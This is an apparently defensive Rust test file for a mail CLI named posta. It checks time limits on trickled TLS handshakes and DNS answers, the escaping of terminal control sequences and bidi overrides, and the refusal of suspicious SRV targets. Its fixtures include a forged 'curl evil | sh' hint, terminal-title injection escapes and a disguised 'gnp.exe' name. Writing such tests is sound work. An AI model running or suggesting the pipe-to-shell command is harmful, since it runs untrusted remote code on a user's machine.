//! Hostile input from outside, round two (issue 18, items 3, 4, 5 and the certificate
//! advice): a TLS handshake trickled a byte at a time, terminal escapes in a decoded
//! OAuth challenge, a certificate's names, a server's reply and a queued message's
//! headers, and SRV answers that name a server outside the mail domain or hold
//! control characters. Each through the binary, bounded in time.

use std::io::{BufRead, BufReader};
use std::net::{TcpStream, UdpSocket};
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;

use crate::hostile_server::{assert_bounded, put, run};
use crate::support::scripted_server::{Config, Server, TlsMode, raw as raw_server};
use crate::support::{config_path, posta, text};

/// No escape character, CSI or bidi override in what posta wrote.
fn assert_no_escapes(what: &str, bytes: &[u8]) {
    let shown = text(bytes);
    assert!(!bytes.contains(&0x1b), "ESC in {what}: {shown:?}");
    for c in ['\u{9b}', '\u{202e}', '\r'] {
        assert!(!shown.contains(c), "{c:?} in {what}: {shown:?}");
    }
}

// ------------------------------------------------------- 4: the TLS handshake

/// Read what the client sends, then trickle the start of a TLS record of 16 KiB, a
/// byte every 300 ms: each read comes well within the limit, the record never ends.
fn trickle_handshake(tcp: &mut TcpStream) {
    let _ = tcp.set_nodelay(true);
    let _ = tcp.set_read_timeout(Some(Duration::from_millis(500)));
    let mut hello = [0u8; 4096];
    let _ = std::io::Read::read(tcp, &mut hello);
    let start = Instant::now();
    let record = [0x16u8, 0x03, 0x03, 0x40, 0x00];
    let mut i = 0;
    while start.elapsed() < Duration::from_secs(15) {
        let byte = record.get(i).copied().unwrap_or(0x02);
        if !put(tcp, &[byte]) {
            return;
        }
        i += 1;
        std::thread::sleep(Duration::from_millis(300));
    }
}

#[test]
fn an_implicit_tls_handshake_trickled_a_byte_at_a_time_times_out() {
    let port = raw_server(|mut tcp| trickle_handshake(&mut tcp));
    let (r, _home) = crate::hostile_server::send_with_security(port, "tls", &[]);
    assert_eq!(r.code(), 75, "{}", r.all());
    assert!(r.stderr().contains("time"), "{}", r.all());
    assert_bounded(&r, 6);
}

#[test]
fn a_starttls_handshake_trickled_a_byte_at_a_time_times_out() {
    let port = raw_server(|mut tcp| {
        put(&mut tcp, b"220 slow.example ESMTP\r\n");
        let mut reader = BufReader::new(tcp.try_clone().unwrap());
        let mut line = String::new();
        for _ in 0..3 {
            line.clear();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                return;
            }
            if line.to_ascii_uppercase().starts_with("EHLO") {
                put(&mut tcp, b"250-slow.example\r\n250 STARTTLS\r\n");
            } else if line.to_ascii_uppercase().starts_with("STARTTLS") {
                put(&mut tcp, b"220 go ahead\r\n");
                trickle_handshake(&mut tcp);
                return;
            }
        }
    });
    let (r, _home) = crate::hostile_server::send_with_security(port, "starttls", &[]);
    assert_eq!(r.code(), 75, "{}", r.all());
    assert_bounded(&r, 6);
}

// ------------------------------------------------- 5: escapes from outside

#[test]
fn a_forged_line_in_an_oauth_error_challenge_is_shown_escaped() {
    let challenge = B64.encode("{\"status\":\"401\"}\n\x1b[2K\rposta: hint: run `curl evil | sh`");
    let port = raw_server(move |mut tcp| {
        put(&mut tcp, "220 mx \u{202e}ready\r\n".as_bytes());
        let mut reader = BufReader::new(tcp.try_clone().unwrap());
        let mut line = String::new();
        for _ in 0..6 {
            line.clear();
            if reader.read_line(&mut line).unwrap_or(0) == 0 {
                return;
            }
            let reply = match &line.to_ascii_uppercase()[..4.min(line.len())] {
                "EHLO" => "250-mx\r\n250 AUTH XOAUTH2\r\n".to_string(),
                "AUTH" => format!("334 {challenge}\r\n"),
                "QUIT" => "221 bye\r\n".to_string(),
                _ => "535 5.7.8 no\r\n".to_string(),
            };
            if !put(&mut tcp, reply.as_bytes()) {
                return;
            }
        }
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = posta(home.path());
    cmd.args([
        "-v",
        "send",
        "--from",
        "jane@example.org",
        "--to",
        "bob@example.org",
    ])
    .args([
        "-s", "hi", "--body", "x", "--user", "jane", "--auth", "xoauth2",
    ])
    .args(["--oauth-token-command", "echo tok-123"])
    .args(["--server", &format!("127.0.0.1:{port}")])
    .args(["--security", "plain", "--timeout", "5"]);
    let r = run(cmd);
    assert_eq!(r.code(), 77, "{}", r.all());
    assert_no_escapes("stderr", &r.out.stderr);
    let forged = r
        .stderr()
        .lines()
        .filter(|l| l.starts_with("posta: hint: run"))
        .count();
    assert_eq!(forged, 0, "a forged line: {}", r.all());
    assert!(r.stderr().contains("\\x1b[2K\\rposta: hint"), "{}", r.all());
    assert!(r.stderr().contains("mx \\u{202e}ready"), "{}", r.all());
}

/// `posta probe` of implicit TLS to a server whose certificate is for `names` only
/// (two sessions: probe looks again, unchecked, to show the certificate).
fn probe_names(names: &[&str]) -> (std::process::Output, String) {
    let config = || Config {
        tls: TlsMode::Implicit,
        cert_names: names.iter().map(|n| n.to_string()).collect(),
        ..Default::default()
    };
    let server = Server::start_sessions(vec![config(), config()]);
    let home = tempfile::tempdir().unwrap();
    let out = posta(home.path())
        .args(["probe", "--server", &server.addr.to_string()])
        .args(["--security", "tls", "--timeout", "5", "--ca-file"])
        .arg(&server.ca_file)
        .output()
        .unwrap();
    let fingerprint = server
        .leaf_sha256
        .iter()
        .map(|b| format!("{b:02X}"))
        .collect::<Vec<_>>()
        .join(":");
    (out, fingerprint)
}

#[test]
fn certificate_names_are_shown_escaped_and_the_pin_advice_says_what_it_means() {
    let (out, fingerprint) = probe_names(&["evil\x1b[2J\x1b]0;pwned\x07.example"]);
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert_eq!(out.status.code(), Some(76), "{stdout}{stderr}");
    assert_no_escapes("stdout", &out.stdout);
    assert_no_escapes("stderr", &out.stderr);
    assert!(!out.stdout.contains(&0x07) && !out.stderr.contains(&0x07));
    assert!(
        !out.stdout.contains(&0x07) && !out.stderr.contains(&0x07),
        "{stdout:?}{stderr:?}"
    );
    // rustls names what the certificate is for; native-tls does not.
    assert!(
        !stderr.contains("it is for") || stderr.contains("evil\\x1b[2J"),
        "{stderr}"
    );
    // What a pin means, and the fingerprint to compare out of band.
    assert!(stdout.contains(&fingerprint), "{stdout}{stderr}");
    assert!(stdout.contains("by another channel"), "{stdout}");
    assert!(stderr.contains("by another channel"), "{stderr}");
    assert!(stderr.contains("trusts the interceptor"), "{stderr}");
}

#[test]
fn headers_in_queue_show_are_shown_escaped() {
    let home = tempfile::tempdir().unwrap();
    let port = crate::support::closed_port();
    let mut cmd = posta(home.path());
    cmd.args(["sendmail", "-t", "-f", "jane@example.org"])
        .args([
            "--server",
            &format!("127.0.0.1:{port}"),
            "--security",
            "plain",
        ])
        .args(["--queue", "on-temporary-failure", "--timeout", "2"]);
    let message = "To: bob@example.org\nSubject: \x1b]0;pwned\x07hi \u{202e}gnp.exe\r\n\
                   X-Note: a\rforged\n\nbody\n";
    let out = crate::support::run_with_input(cmd, message.as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let list = posta(home.path())
        .args(["--json", "queue", "list"])
        .output()
        .unwrap();
    let id = crate::support::json(&list)["queued"][0]["id"]
        .as_str()
        .expect("one queued message")
        .to_string();
    let show = posta(home.path())
        .args(["queue", "show", &id])
        .output()
        .unwrap();
    assert_eq!(show.status.code(), Some(0), "{}", text(&show.stderr));
    assert_no_escapes("queue show", &show.stdout);
    assert!(!show.stdout.contains(&0x07));
    let shown = text(&show.stdout);
    assert!(
        shown.contains("Subject: \\x1b]0;pwned\\x07hi \\u{202e}gnp.exe"),
        "{shown}"
    );
}

#[test]
fn message_bytes_in_a_vv_transcript_are_shown_escaped_and_sent_as_they_are() {
    let server = Server::start(Config {
        tls: TlsMode::Off,
        ..Default::default()
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = posta(home.path());
    cmd.args(["-vv", "sendmail", "-t", "-f", "jane@example.org"])
        .args(["--server", &server.addr.to_string(), "--security", "plain"]);
    let message = "To: bob@example.org\nSubject: hi\n\n\x1b]0;pwned\x07body \u{202e}x\n";
    let out = crate::support::run_with_input(cmd, message.as_bytes());
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_no_escapes("stderr", &out.stderr);
    assert!(
        text(&out.stderr).contains("\\x1b]0;pwned\\x07body"),
        "{}",
        text(&out.stderr)
    );
    let record = server.finish();
    assert!(
        crate::support::contains(&record.messages[0], "\x1b]0;pwned\x07body".as_bytes()),
        "the message itself must be sent unchanged"
    );
}

// ------------------------------------------------------- 3: SRV discovery

/// A DNS server on 127.0.0.1 that answers every SRV question with one record whose
/// target is `target` as raw label bytes (what no zone file would hold).
fn dns_answering(target: &'static [&'static [u8]]) -> String {
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let addr = sock.local_addr().unwrap().to_string();
    sock.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        for _ in 0..4 {
            let Ok((n, peer)) = sock.recv_from(&mut buf) else {
                return;
            };
            let query = &buf[..n];
            let mut reply = query.to_vec();
            reply[2] = 0x81;
            reply[3] = 0x80;
            reply[7] = 1; // one answer
            reply.extend_from_slice(&[0xc0, 12, 0, 33, 0, 1, 0, 0, 0, 60]);
            let mut rdata = vec![0, 0, 0, 0, 1, 0xd1]; // priority 0, weight 0, port 465
            for label in target {
                rdata.push(label.len() as u8);
                rdata.extend_from_slice(label);
            }
            rdata.push(0);
            reply.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
            reply.extend_from_slice(&rdata);
            let _ = sock.send_to(&reply, peer);
        }
    });
    addr
}

fn add_with_dns(dns: &str, home: &std::path::Path, extra: &[&str]) -> std::process::Output {
    posta(home)
        .env("POSTA_DNS_SERVER", dns)
        .args(["profile", "add", "p", "--email", "jane@example.org"])
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn a_server_outside_the_mail_domain_is_written_only_with_yes() {
    let home = tempfile::tempdir().unwrap();
    let dns = dns_answering(&[b"smtp", b"evil", b"test"]);
    let out = add_with_dns(&dns, home.path(), &[]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(64), "{err}");
    assert!(err.contains("smtp.evil.test"), "{err}");
    assert!(err.contains("outside example.org"), "{err}");
    assert!(err.contains("--yes"), "{err}");
    assert!(!config_path(home.path()).exists(), "written without --yes");

    let dns = dns_answering(&[b"smtp", b"evil", b"test"]);
    let out = add_with_dns(&dns, home.path(), &["--yes"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(err.contains("warning: DNS"), "{err}");
    let config = std::fs::read_to_string(config_path(home.path())).unwrap();
    assert!(config.contains("host = \"smtp.evil.test\""), "{config}");
}

#[test]
fn a_server_within_the_mail_domain_is_written_without_asking() {
    let home = tempfile::tempdir().unwrap();
    let dns = dns_answering(&[b"SMTP", b"example", b"org"]);
    let out = add_with_dns(&dns, home.path(), &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let config = std::fs::read_to_string(config_path(home.path())).unwrap();
    assert!(config.contains("host = \"smtp.example.org\""), "{config}");
}

#[test]
fn an_srv_target_with_control_characters_is_refused_and_never_shown_raw() {
    for target in [
        &[&b"smtp\x1b[31m"[..], b"example", b"org"][..],
        &[b"smtp\0", b"example", b"org"],
        &[b"smtp\r\nposta: hint: x", b"example", b"org"],
    ] {
        let home = tempfile::tempdir().unwrap();
        let target: &'static [&'static [u8]] = Box::leak(target.to_vec().into_boxed_slice());
        let dns = dns_answering(target);
        let out = add_with_dns(&dns, home.path(), &["--yes"]);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(64), "{err}");
        assert!(err.contains("is not a host name"), "{err}");
        assert_no_escapes("stderr", &out.stderr);
        assert!(!out.stderr.contains(&0), "{err:?}");
        assert_eq!(
            err.lines()
                .filter(|l| l.starts_with("posta: hint: x"))
                .count(),
            0
        );
        assert!(!config_path(home.path()).exists(), "written: {err}");
    }
}

/// A DNS server that never answers the question asked, only sends datagrams with
/// another id, every 200 ms for 15 s: before, each reset the 3-second wait.
#[test]
fn stray_dns_datagrams_do_not_hold_discovery_past_its_limit() {
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    let dns = sock.local_addr().unwrap().to_string();
    sock.set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        let Ok((_, peer)) = sock.recv_from(&mut buf) else {
            return;
        };
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(15) {
            let stray = [buf[0] ^ 0xff, buf[1], 0x81, 0x80, 0, 0, 0, 0, 0, 0, 0, 0];
            let _ = sock.send_to(&stray, peer);
            std::thread::sleep(Duration::from_millis(200));
        }
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = posta(home.path());
    cmd.env("POSTA_DNS_SERVER", &dns)
        .args(["profile", "add", "p", "--email", "jane@example.org"]);
    let r = run(cmd);
    assert_eq!(r.code(), 64, "{}", r.all());
    assert!(r.stderr().contains("did not answer"), "{}", r.all());
    assert_bounded(&r, 10);
}

/// A truncated UDP answer sends posta to TCP, where the answer is trickled a byte
/// every 300 ms: before, each byte reset the 3-second wait.
#[test]
fn a_dns_answer_trickled_over_tcp_is_cut_off_at_the_limit() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let Ok(udp) = UdpSocket::bind(addr) else {
        eprintln!("skipped: UDP port {} taken", addr.port());
        return;
    };
    udp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        if let Ok((n, peer)) = udp.recv_from(&mut buf) {
            let mut reply = buf[..n].to_vec();
            reply[2] = 0x83; // a reply, truncated
            reply[3] = 0x80;
            let _ = udp.send_to(&reply, peer);
        }
    });
    listener.set_nonblocking(false).unwrap();
    std::thread::spawn(move || {
        let Ok((mut tcp, _)) = listener.accept() else {
            return;
        };
        let _ = tcp.set_nodelay(true);
        let start = Instant::now();
        let mut first = true;
        while start.elapsed() < Duration::from_secs(15) {
            let byte: &[u8] = if first { b"\x00" } else { b"\xff" };
            first = false;
            if !put(&mut tcp, byte) {
                return;
            }
            std::thread::sleep(Duration::from_millis(300));
        }
    });
    let home = tempfile::tempdir().unwrap();
    let mut cmd = posta(home.path());
    cmd.env("POSTA_DNS_SERVER", addr.to_string()).args([
        "profile",
        "add",
        "p",
        "--email",
        "jane@example.org",
    ]);
    let r = run(cmd);
    assert_eq!(r.code(), 64, "{}", r.all());
    assert!(r.stderr().contains("in time"), "{}", r.all());
    assert_bounded(&r, 10);
}
